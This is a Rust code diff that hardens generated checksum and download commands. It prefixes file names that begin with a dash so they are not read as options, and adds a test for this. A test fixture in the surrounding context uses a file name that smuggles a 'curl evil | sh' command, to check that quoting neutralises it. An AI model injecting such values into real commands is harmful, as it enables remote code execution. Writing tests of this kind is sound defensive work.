@@ -270,6 +270,12 @@ pub fn commands(lang: Lang, finding: Finding, os: &str, subject: &Subject) -> Op
         template.push_str(self::template(CHECK, os)?);
     }
     let resume = finding == Finding::BadFile(Kind::Truncated);
+    // A name that starts with `-` would be read as an option.
+    let file = &if file.starts_with('-') {
+        format!("./{file}")
+    } else {
+        file.clone()
+    };
     let root = quote(os, &format!("https://{host}/"));
     let check = quote(os, &format!("{sha256}  {file}"));
     let (host, url, file, sha256) = (
@@ -525,6 +531,14 @@ mod tests {
         assert!(linux.starts_with("sha256sum 'go'\\''; curl evil | sh; '\\''.tar.gz'\n"));
         let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
         assert!(win.starts_with("Get-FileHash 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
+        // Nor is a name read as an option.
+        subject.file = "--help.tar.gz".into();
+        let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
+        assert!(
+            linux.starts_with("sha256sum './--help.tar.gz'\n"),
+            "{linux}"
+        );
+        assert!(linux.contains("-o './--help.tar.gz' "), "{linux}");
     }
 
     #[test]
